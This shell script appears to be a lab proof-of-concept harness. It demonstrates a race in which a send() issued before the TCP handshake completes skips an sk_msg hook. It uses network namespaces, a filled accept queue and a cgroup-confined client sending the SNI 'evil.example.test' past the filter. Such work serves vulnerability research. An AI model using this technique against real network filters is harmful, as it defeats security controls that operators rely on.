#!/bin/sh
# The race: a blocking send() that entered tcp_sendmsg before the handshake
# finished never passes sk_msg. Server side: slowlisten.py on port 81.
cd /work/poc-sni
mkfifo run/slow.in 2>/dev/null
ip netns exec pocsni-s python3 slowlisten.py < run/slow.in > run/slow.log 2>&1 & SP=$!
exec 3> run/slow.in
sleep 0.5
# filler, outside the cgroup: fills the accept queue (backlog 0)
ip netns exec pocsni-c python3 -c 'import socket,time; s=socket.create_connection(("203.0.113.1",81)); time.sleep(8)' & FP=$!
sleep 0.5
echo 1.5 >&3
timeout 12 ./incg.sh python3 client.py 203.0.113.1 81 race evil.example.test
sleep 2
exec 3>&-
wait $FP 2>/dev/null
kill $SP 2>/dev/null
cat run/slow.log
rm -f run/slow.in
